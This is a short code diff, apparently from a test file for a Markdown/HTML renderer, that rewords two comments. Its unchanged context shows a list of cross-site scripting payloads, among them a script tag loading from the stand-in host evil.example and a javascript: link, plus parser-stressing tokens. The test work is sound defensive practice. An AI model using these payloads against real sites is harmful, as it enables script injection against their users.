@@ -42,7 +42,7 @@ export function activeParts(html: string): string[] {
   });
 }
 
-/** Attempts to get something active through the renderer. */
+/** Attempts to smuggle active content through the renderer. */
 export const payloads = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
@@ -90,7 +90,7 @@ export const payloads = [
   "[x]: javascript:alert(1)\n\n[x]",
 ];
 
-/** What opens something, in Markdown or HTML. Repeated, most of these nest or make a parser look back. */
+/** Opening tokens of Markdown and HTML. Repeated, most of these nest or cause backtracking. */
 const openings = [
   ...[
     "> ",
